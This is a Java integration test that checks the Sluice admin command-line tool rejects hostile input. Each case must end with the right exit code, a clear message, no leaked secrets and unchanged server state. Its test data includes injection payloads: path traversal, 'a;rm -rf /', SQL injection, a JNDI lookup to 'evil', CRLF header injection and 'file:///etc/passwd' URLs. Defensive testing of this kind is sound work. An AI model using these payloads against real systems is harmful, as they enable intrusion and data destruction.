package io.sluice.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.sluice.embedded.FreePorts;
import io.sluice.embedded.ServerProcess;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile command lines against the packaged server ({@code quarkus-admin/target/quarkus-app}) in a JVM of its own:
 * unknown commands and options, values of the wrong type, names built for injection and path traversal, huge
 * arguments, malformed config files and argument files, missing, forged, revoked and under-privileged tokens, and
 * server addresses that are malformed, unreachable or not a Sluice server. Each must end with its documented exit
 * code ({@link ExitCode}) and a message that names the input and the fix, without a stack trace, a control
 * character or a secret; the server's stored state must not change, and it must still serve afterwards.
 */
class HostileCliIT {
    private static final String ADMIN_PASSWORD = "Hostile-Cli-Admin-Password-1";
    /** A Java stack frame or an exception class name: what a person must never see. */
    private static final Pattern TRACE = Pattern.compile("\\tat |\\bat [a-z]+\\.[a-zA-Z0-9_.$]+\\(|[a-z]\\.[A-Za-z]+(Exception|Error)\\b"
            + "|\\b[A-Z][A-Za-z]+Exception\\b|java\\.(lang|io|nio|net)\\.");
    /** What a message that says how to fix the input contains: a command to run, a flag to pass or what is allowed. */
    private static final Pattern FIX = Pattern.compile("`sluice|--help|--server|--token|\\bpass\\b|\\bset\\b|\\bcheck\\b|\\bcreate|\\bask an admin"
            + "|\\bwrite it as|\\bfix\\b|\\bshorten|\\bmust\\b|\\bpoint\\b|\\buse\\b|\\bshows\\b|\\blists\\b|\\bexpected\\b|\\bone of\\b"
            + "|Did you mean|\\bis required\\b|\\bmissing\\b|\\bneeds\\b|\\bis not\\b|\\bnot valid\\b|\\binvalid\\b");
    /** Names built to escape their path segment, their SQL or their template, or to confuse a terminal. */
    private static final List<String> NAMES = List.of("../../etc/passwd", "..", ".", "x' OR '1'='1", "a;rm -rf /", "{{7*7}}",
            "${jndi:ldap://evil/a}", "%2e%2e%2fapi", "name with spaces", "\u202Eevil", "\u001b[31mred\u001b[0m", "two\nlines",
            "\u00fcn\u00efc\u00f6d\u00e9", "n".repeat(3000));

    @TempDir
    Path dir;

    /** One command line: its environment, arguments, the exit code it must end with and the input its message must name. */
    private record Invocation(Map<String, String> env, List<String> args, int exit, String names) {
    }

    @Test
    void shouldRefuseEveryHostileCommandLineWithItsExitCodeAndAMessageAndChangeNothing() throws Exception {
        byte[] key = new byte[32];
        new SecureRandom().nextBytes(key);
        Path log = dir.resolve("server.log");
        Files.createDirectories(dir.resolve("data"));
        try (ServerProcess server = new ServerProcess(ServerProcess.packagedJar(), FreePorts.next(), Map.of("sluice.data-dir",
                dir.resolve("data").toString(), "sluice.encryption-key", Base64.getEncoder().encodeToString(key),
                "sluice.admin.initial-password", ADMIN_PASSWORD, "sluice.secure-cookies", "false"), log)) {
            server.start();
            String admin = server.json("POST", "/api/v1/me/tokens", "{\"label\":\"hostile-cli\",\"ttlDays\":1}", 201).path("token").asText();
            server.json("POST", "/api/v1/users", "{\"name\":\"watcher\",\"password\":\"Watcher-Password-1\",\"role\":\"viewer\"}", 201);
            String viewer = server.json("POST", "/api/v1/users/watcher/tokens", "{\"label\":\"cli\"}", 201).path("token").asText();
            JsonNode revokedToken = server.json("POST", "/api/v1/users/watcher/tokens", "{\"label\":\"revoked\"}", 201);
            server.json("DELETE", "/api/v1/tokens/" + revokedToken.path("id").asText(), null, 204);
            server.json("POST", "/api/v1/sinks", "{\"name\":\"index\",\"type\":\"lucene\",\"config\":{}}", 201);
            server.json("POST", "/registry/subjects/shop.shop.items-value/versions", "{\"schema\":\"{\\\"type\\\":\\\"record\\\",\\\"name\\\":"
                    + "\\\"items\\\",\\\"fields\\\":[{\\\"name\\\":\\\"id\\\",\\\"type\\\":\\\"int\\\"}]}\"}", 200);
            long proposal = server.json("POST", "/api/v1/schemas/proposals", "{\"subject\":\"shop.shop.items-value\",\"schema\":\"{\\\"type\\\":"
                    + "\\\"record\\\",\\\"name\\\":\\\"items\\\",\\\"fields\\\":[{\\\"name\\\":\\\"id\\\",\\\"type\\\":\\\"string\\\"}]}\"}", 201)
                    .path("id").asLong();
            Map<String, String> before = state(server);

            List<String> secrets = List.of(ADMIN_PASSWORD, admin, viewer, revokedToken.path("token").asText(), "Watcher-Password-1");
            List<Invocation> invocations = invocations(server.url(), admin, viewer, revokedToken.path("token").asText(), proposal);
            List<String> problems = new ArrayList<>();
            StringBuilder report = new StringBuilder();
            for (Invocation i : invocations) {
                SluiceCli.Result r = SluiceCli.execute(i.env(), i.args().toArray(String[]::new));
                check(i, r.exitCode(), r.out(), r.err(), secrets, problems);
                report.append(r.exitCode()).append("  sluice ").append(abbreviate(String.join(" ", i.args()))).append("\n    ")
                        .append(abbreviate(r.err().strip()).replace("\u2423", "\n    ")).append('\n');
            }
            // The answers, for a person to read: target/hostile-cli.txt.
            Files.writeString(Path.of("target", "hostile-cli.txt"), report);
            // One of each exit code again through the packaged jar, as a shell runs it (a process takes no NUL character).
            Map<Integer, Invocation> packaged = new LinkedHashMap<>();
            invocations.stream().filter(i -> !(i.args() + "" + i.env()).contains("\u0000")).forEach(i -> packaged.putIfAbsent(i.exit(), i));
            for (Invocation i : packaged.values()) {
                runJar(i, secrets, problems);
            }

            assertThat(invocations).hasSizeGreaterThanOrEqualTo(100);
            assertThat(problems).as(invocations.size() + " hostile command lines, " + packaged.size() + " of them also through the jar").isEmpty();
            assertThat(state(server)).as("the server's stored state after the hostile command lines").isEqualTo(before);
            SluiceCli.Result still = SluiceCli.execute(env(server.url(), admin), "sources", "list", "-o", "json");
            assertThat(still.exitCode()).as(still.err()).isZero();
            assertThat(server.json("GET", "/q/health/ready", null, 200)).isNotNull();
        }
        String logged = Files.readString(log);
        assertThat(logged).as("the server's log").doesNotContain(ADMIN_PASSWORD).doesNotContain("Watcher-Password-1");
    }

    /** The hostile command lines: families of commands crossed with hostile values, then single cases. */
    private List<Invocation> invocations(String url, String admin, String viewer, String revoked, long proposal) throws IOException {
        List<Invocation> out = new ArrayList<>(arguments(env(url, admin), proposal));
        out.addAll(credentials(url, admin, viewer, revoked, proposal));
        out.addAll(addresses(url, admin));
        return out;
    }

    /** Names, typed values, commands and options that are wrong, requests the server refuses, huge arguments; as the admin. */
    private static List<Invocation> arguments(Map<String, String> asAdmin, long proposal) {
        List<Invocation> out = new ArrayList<>();

        // Names in every command that takes one: nothing of that name exists, or the name cannot be one.
        List<List<String>> named = List.of(List.of("sources", "show"), List.of("sources", "status"), List.of("sources", "preflight"),
                List.of("sources", "start"), List.of("sources", "stop"), List.of("sources", "pause"), List.of("sources", "resume"),
                List.of("dlq", "list"), List.of("dlq", "replay", "--all"), List.of("dlq", "discard", "--all"), List.of("backfill", "status"),
                List.of("backfill", "pause"), List.of("backfill", "resume"), List.of("backfill", "cancel"), List.of("rules", "show", "db.t"),
                List.of("rules", "release"));
        for (List<String> command : named) {
            for (String name : NAMES) {
                List<String> args = new ArrayList<>(command.subList(0, 2));
                args.add(name);
                args.addAll(command.subList(2, command.size()));
                boolean dots = name.equals(".") || name.equals("..");
                out.add(new Invocation(asAdmin, args, dots ? ExitCode.USAGE : ExitCode.NOT_FOUND, name.substring(0, Math.min(name.length(), 40))));
            }
        }
        for (String name : NAMES) {
            out.add(new Invocation(asAdmin, List.of("context", "use", name), ExitCode.NOT_FOUND, name.substring(0, Math.min(name.length(), 40))));
        }

        // Values of the wrong type for every typed argument: refused before anything is sent.
        List<List<String>> typed = List.of(List.of("schemas", "show", "%s"), List.of("schemas", "approve", "%s", "--reason", "r"),
                List.of("schemas", "reject", "%s", "--reason", "r"), List.of("dlq", "list", "index", "--limit", "%s"),
                List.of("dlq", "replay", "index", "--ids", "%s"), List.of("backfill", "start", "--pipeline", "p", "--chunk-size", "%s"),
                List.of("backfill", "start", "--pipeline", "p", "--rate", "%s"), List.of("schemas", "list", "--status", "%s"),
                List.of("sources", "list", "-o", "%s"), List.of("rules", "approve", "%s"), List.of("rules", "reject", "%s"),
                List.of("rules", "proposals", "--status", "%s"), List.of("alerts", "show", "%s"), List.of("alerts", "unsilence", "%s"),
                List.of("alerts", "silence", "--minutes", "%s"), List.of("alerts", "list", "--limit", "%s"));
        for (List<String> command : typed) {
            for (String value : List.of("ten", "1.5", "99999999999999999999", "0x10", "1e3", "'; DROP TABLE users; --")) {
                out.add(new Invocation(asAdmin, command.stream().map(a -> a.replace("%s", value)).toList(), ExitCode.USAGE, value));
            }
        }

        // Unknown commands and options, missing and conflicting arguments.
        for (List<String> args : List.of(List.of("bogus"), List.of("source", "list"), List.of("SOURCES", "list"), List.of("sources;ls"),
                List.of("sources", "drop"), List.of("schemas", "delete"), List.of("dlq", "purge"), List.of("backfill", "explode"),
                List.of("context", "rename"), List.of("--bogus"), List.of("sources", "list", "--bogus"), List.of("sources", "list", "-x"),
                List.of("sources", "list", "extra"), List.of("sources", "show", "a", "b"), List.of("verify", "--pipeline", "p", "--table", "a.b", "--fix"))) {
            out.add(new Invocation(asAdmin, args, ExitCode.USAGE, args.get(args.size() - 1)));
        }
        out.add(invocation(asAdmin, ExitCode.USAGE, "NAME", "sources", "show"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--reason", "schemas", "approve", "1"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "ID", "schemas", "reject"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--ids", "dlq", "replay", "index"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--pipeline", "backfill", "start"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--pipeline", "verify"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--table", "verify", "--pipeline", "p"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "NAME", "context", "set"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "NAME", "context", "use"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--server", "sources", "list", "--server"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--token", "sources", "list", "--token"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--output", "sources", "list", "-o"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--all", "dlq", "replay", "index", "--ids", "1", "--all"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--all", "dlq", "discard", "index", "--group", "g", "--all"));

        // Requests the server refuses as they stand: each detail named.
        String id = Long.toString(proposal);
        out.add(invocation(asAdmin, ExitCode.INVALID, "where", "backfill", "start", "--pipeline", "p", "--where", "1=1; DROP TABLE items; --"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "chunkSize", "backfill", "start", "--pipeline", "p", "--chunk-size", "0"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "rowsPerSecond", "backfill", "start", "--pipeline", "p", "--rate", "-5"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "table", "verify", "--pipeline", "p", "--table", "no dot"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "table", "verify", "--pipeline", "p", "--table", "a.b' OR 1=1 --"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "ids", "dlq", "replay", "index", "--ids", "41,42"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "ids", "dlq", "discard", "index", "--ids", "-1"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "levelOverride", "schemas", "approve", id, "--reason", "fine", "--level", "SIDEWAYS"));
        out.add(invocation(asAdmin, ExitCode.INVALID, "reason", "schemas", "approve", id, "--reason", "   "));
        out.add(invocation(asAdmin, ExitCode.INVALID, "reason", "schemas", "reject", id, "--reason", " "));
        // Huge arguments: a name of 20,000 characters, a filter and a reason of 5 MB.
        out.add(invocation(asAdmin, ExitCode.INVALID, "too long", "sources", "show", "h".repeat(20_000)));
        out.add(invocation(asAdmin, ExitCode.INVALID, "too large", "backfill", "start", "--pipeline", "p", "--where", "x".repeat(5 * 1024 * 1024)));
        out.add(invocation(asAdmin, ExitCode.INVALID, "too large", "schemas", "reject", id, "--reason", "r".repeat(5 * 1024 * 1024)));

        return out;
    }

    /** Tokens: none, forged, revoked, with characters no token has, and a role that does not allow the command. */
    private List<Invocation> credentials(String url, String admin, String viewer, String revoked, long proposal) {
        Map<String, String> asAdmin = env(url, admin);
        List<Invocation> out = new ArrayList<>();
        Map<String, String> noToken = env(url, null);
        out.add(new Invocation(noToken, List.of("sources", "list"), ExitCode.UNAUTHORIZED, "none was given"));
        out.add(new Invocation(noToken, List.of("backfill", "start", "--pipeline", "p"), ExitCode.UNAUTHORIZED, "none was given"));
        for (String token : List.of("slu_forged_" + "x".repeat(40), revoked, "Bearer " + admin.substring(0, 8), "x".repeat(10_000))) {
            out.add(new Invocation(env(url, token), List.of("sources", "list"), ExitCode.UNAUTHORIZED, ApiClient.ENV_TOKEN));
        }
        for (String token : List.of("slu_a\r\nX-Injected: yes", "slu_\u00e4\u00f6\u00fc", "slu_\u0000nul", "slu_tab\tinside")) {
            out.add(new Invocation(env(url, token), List.of("sources", "list"), ExitCode.UNAUTHORIZED, ApiClient.ENV_TOKEN));
            out.add(new Invocation(asAdmin, List.of("--token", token, "sources", "list"), ExitCode.UNAUTHORIZED, "--token"));
        }
        Map<String, String> asViewer = env(url, viewer);
        for (List<String> args : List.of(List.of("sources", "start", "index"), List.of("sources", "preflight", "none"),
                List.of("dlq", "replay", "index", "--all"), List.of("dlq", "discard", "index", "--all", "--dry-run"),
                List.of("backfill", "start", "--pipeline", "p"), List.of("backfill", "cancel", "1"),
                List.of("verify", "--pipeline", "p", "--table", "a.b"), List.of("schemas", "approve", Long.toString(proposal), "--reason", "r"),
                List.of("schemas", "reject", Long.toString(proposal), "--reason", "r"))) {
            boolean readable = args.get(1).equals("preflight");
            out.add(new Invocation(asViewer, args, readable ? ExitCode.NOT_FOUND : ExitCode.UNAUTHORIZED, readable ? "none" : "role"));
        }

        return out;
    }

    /**
     * Server addresses that are malformed, unreachable, speak another protocol or are not a Sluice server; config files
     * that are malformed, of the wrong shape, unreadable or hold a token for another server; argument files.
     */
    private List<Invocation> addresses(String url, String admin) throws IOException {
        Map<String, String> asAdmin = env(url, admin);
        List<Invocation> out = new ArrayList<>();
        for (String server : List.of("ftp://127.0.0.1/", "not a url", "http://", "http://127.0.0.1:99999", "javascript:alert(1)",
                "file:///etc/passwd", "http://[::1", "127.0.0.1:8080", "http://exa mple.com", "\u001b[2J")) {
            out.add(new Invocation(asAdmin, List.of("--server", server, "sources", "list"), ExitCode.USAGE, "--server"));
            out.add(new Invocation(env(server, admin), List.of("sources", "list"), ExitCode.USAGE, ApiClient.ENV_SERVER));
        }
        int closed = FreePorts.next();
        out.add(invocation(asAdmin, ExitCode.UNREACHABLE, "connection refused", "--server", "http://127.0.0.1:" + closed, "sources", "list"));
        out.add(invocation(asAdmin, ExitCode.UNREACHABLE, "unknown host sluice.invalid", "--server", "http://sluice.invalid", "sources", "list"));
        out.add(invocation(asAdmin, ExitCode.UNREACHABLE, "TLS failed", "--server", url.replace("http://", "https://"), "sources", "list"));
        out.add(invocation(asAdmin, ExitCode.USAGE, "--server", "--server", "http://admin:" + ADMIN_PASSWORD + "@127.0.0.1:" + closed, "sources", "list"));
        out.add(invocation(env("https://admin:" + ADMIN_PASSWORD + "@sluice.internal", admin), ExitCode.USAGE, ApiClient.ENV_SERVER, "sources", "list"));
        out.add(invocation(asAdmin, ExitCode.NOT_FOUND, "Sluice server's root", "--server", url + "/q/health", "sources", "list"));
        Map<String, String> none = Map.of("SLUICE_CONFIG", dir.resolve("none.json").toString());
        out.add(new Invocation(none, List.of("sources", "list"), ExitCode.USAGE, "no Sluice server given"));
        out.add(new Invocation(none, List.of("--context", "prod", "sources", "list"), ExitCode.NOT_FOUND, "prod"));

        // Config files.
        for (String content : List.of("{", "not json", "[]", "\"text\"", "null", "{\"contexts\": 5}", "{\"current-context\": []}",
                "\u0000\u0001\u0002", "[".repeat(100_000), "{\"current-context\": \"p\", \"contexts\": {\"p\": {\"server\": 42}}}",
                "{\"current-context\": \"p\", \"contexts\": {\"p\": \"http://127.0.0.1\"}}")) {
            Path file = Files.writeString(Files.createTempFile(dir, "config-", ".json"), content);
            out.add(invocation(Map.of("SLUICE_CONFIG", file.toString()), ExitCode.FAILED, file.toString(), "sources", "list"));
        }
        Path gopher = Files.writeString(Files.createTempFile(dir, "config-", ".json"),
                "{\"current-context\": \"p\", \"contexts\": {\"p\": {\"server\": \"gopher://x\"}}}");
        out.add(invocation(Map.of("SLUICE_CONFIG", gopher.toString()), ExitCode.USAGE, "gopher://x", "sources", "list"));
        Path latin1 = Files.write(Files.createTempFile(dir, "config-", ".json"), "{\"contexts\": {\"caf\u00e9\": {}}}".getBytes(StandardCharsets.ISO_8859_1));
        out.add(new Invocation(Map.of("SLUICE_CONFIG", latin1.toString()), List.of("sources", "list"), ExitCode.FAILED, latin1.toString()));
        out.add(new Invocation(Map.of("SLUICE_CONFIG", dir.toString()), List.of("sources", "list"), ExitCode.FAILED, dir.toString()));
        Path notADirectory = Files.writeString(dir.resolve("plain-file"), "x");
        out.add(new Invocation(Map.of("SLUICE_CONFIG", notADirectory.resolve("config.json").toString()), List.of("context", "set", "p",
                "--server", url), ExitCode.FAILED, notADirectory.resolve("config.json").toString()));
        out.add(new Invocation(Map.of("SLUICE_CONFIG", dir.toString()), List.of("context", "set", "p", "--server", url), ExitCode.FAILED, dir.toString()));
        Path other = Files.writeString(Files.createTempFile(dir, "config-", ".json"), "{\"current-context\": \"prod\", \"contexts\": {\"prod\": "
                + "{\"server\": \"http://127.0.0.1:" + closed + "\", \"token\": \"" + admin + "\"}}}");
        out.add(new Invocation(Map.of("SLUICE_CONFIG", other.toString()), List.of("--server", url, "sources", "list"), ExitCode.UNAUTHORIZED, "none was given"));
        out.add(new Invocation(Map.of("SLUICE_CONFIG", other.toString()), List.of("sources", "list"), ExitCode.UNREACHABLE, "context 'prod'"));
        for (List<String> args : List.of(List.of("context", "set", "", "--server", url), List.of("context", "set", "p"),
                List.of("context", "set", "p", "--server", "javascript:alert(1)"), List.of("context", "set", "p", "--server", "http://[::1"))) {
            out.add(new Invocation(Map.of("SLUICE_CONFIG", dir.resolve("contexts.json").toString()), args, ExitCode.USAGE,
                    args.size() > 4 && !args.get(2).isEmpty() ? args.get(4) : "context"));
        }
        out.add(invocation(Map.of("SLUICE_CONFIG", dir.resolve("contexts.json").toString()), ExitCode.UNAUTHORIZED, "--token", "context", "set", "p",
                "--server", url, "--token", "Bearer " + admin));
        for (String name : List.of("nope", "../../etc", "\u001b[31m")) {
            out.add(new Invocation(Map.of("SLUICE_CONFIG", dir.resolve("contexts.json").toString()), List.of("context", "delete", name),
                    ExitCode.NOT_FOUND, name.replace('\u001b', ' ')));
        }

        // Argument files (picocli's @file): missing, malformed, huge.
        Path unterminated = Files.writeString(Files.createTempFile(dir, "args-", ".txt"), "sources show \"unterminated");
        Path huge = Files.writeString(Files.createTempFile(dir, "args-", ".txt"), "sources show " + "y".repeat(1024 * 1024));
        Path binary = Files.write(Files.createTempFile(dir, "args-", ".txt"), new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1, 2, '"', '\\'});
        out.add(new Invocation(asAdmin, List.of("@" + dir.resolve("missing-args.txt")), ExitCode.USAGE, "missing-args.txt"));
        out.add(new Invocation(asAdmin, List.of("@" + unterminated), ExitCode.NOT_FOUND, "unterminated"));
        out.add(new Invocation(asAdmin, List.of("@" + huge), ExitCode.INVALID, "too long"));
        out.add(new Invocation(asAdmin, List.of("@" + binary), ExitCode.USAGE, "Unmatched"));
        return out;
    }

    private static Invocation invocation(Map<String, String> env, int exit, String names, String... args) {
        return new Invocation(env, List.of(args), exit, names);
    }

    /** The environment of one command line: a server and a token from the environment, and a config file that does not exist. */
    private Map<String, String> env(String server, String token) {
        Map<String, String> env = new HashMap<>();
        env.put("SLUICE_CONFIG", dir.resolve("no-config.json").toString());
        env.put(ApiClient.ENV_SERVER, server);
        if (token != null) {
            env.put(ApiClient.ENV_TOKEN, token);
        }
        return env;
    }

    private static void check(Invocation i, int exit, String out, String err, List<String> secrets, List<String> problems) {
        String what = "sluice " + abbreviate(String.join(" ", i.args())) + " (SLUICE_SERVER=" + abbreviate(String.valueOf(i.env().get(ApiClient.ENV_SERVER)))
                + ") -> " + exit + ": " + abbreviate(err.strip());
        if (exit != i.exit()) {
            problems.add(what + " [expected exit " + i.exit() + "]");
        }
        if (err.isBlank()) {
            problems.add(what + " [no message on stderr]");
        } else if (!err.contains(Text.clean(i.names()))) {
            problems.add(what + " [the message does not name '" + abbreviate(i.names()) + "']");
        } else if (!FIX.matcher(err).find()) {
            problems.add(what + " [the message does not say what to do]");
        }
        if (TRACE.matcher(out).find() || TRACE.matcher(err).find()) {
            problems.add(what + " [a stack trace or an exception name]");
        }
        if ((out + err).chars().anyMatch(c -> c != '\n' && Character.isISOControl(c))) {
            problems.add(what + " [a control character in the output]");
        }
        for (String secret : secrets) {
            if (out.contains(secret) || err.contains(secret)) {
                problems.add(what + " [a secret in the output]");
            }
        }
    }

    /** Runs one command line through the packaged jar, as a shell would. */
    private void runJar(Invocation i, List<String> secrets, List<String> problems) throws Exception {
        Path jar = Path.of(System.getProperty("sluice.cli.jar", "target/sluice-cli.jar"));
        List<String> command = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-jar", jar.toString()));
        command.addAll(i.args());
        ProcessBuilder pb = new ProcessBuilder(command).redirectOutput(dir.resolve("jar.out").toFile()).redirectError(dir.resolve("jar.err").toFile());
        pb.environment().keySet().removeIf(k -> k.startsWith("SLUICE_"));
        pb.environment().putAll(i.env());
        Process p = pb.start();
        assertThat(p.waitFor(60, TimeUnit.SECONDS)).as("sluice " + i.args() + " through the jar ended").isTrue();
        check(i, p.exitValue(), Files.readString(dir.resolve("jar.out")), Files.readString(dir.resolve("jar.err")), secrets, problems);
    }

    /**
     * What the server stores, read through its API as the admin. A token's {@code lastUsed} is left out: the hostile
     * command lines use the tokens, which is what that field records.
     */
    private static Map<String, String> state(ServerProcess server) throws Exception {
        Map<String, String> out = new LinkedHashMap<>();
        for (String path : List.of("/api/v1/sources", "/api/v1/sinks", "/api/v1/pipelines", "/api/v1/users", "/api/v1/backfills",
                "/api/v1/verifications", "/api/v1/schemas/proposals", "/api/v1/schemas/audit", "/api/v1/me/tokens", "/api/v1/users/watcher/tokens",
                "/api/v1/sinks/index/dead-letters", "/registry/subjects", "/registry/config")) {
            JsonNode answer = server.json("GET", path, null, 200);
            if (path.endsWith("/tokens")) {
                answer.forEach(token -> ((ObjectNode) token).remove("lastUsed"));
            }
            out.put(path, answer.toString());
        }
        return out;
    }

    private static String abbreviate(String s) {
        String flat = s.replaceAll("\\p{Cntrl}", "\u2423");
        return flat.length() > 200 ? flat.substring(0, 200) + "...(" + flat.length() + " chars)" : flat;
    }
}
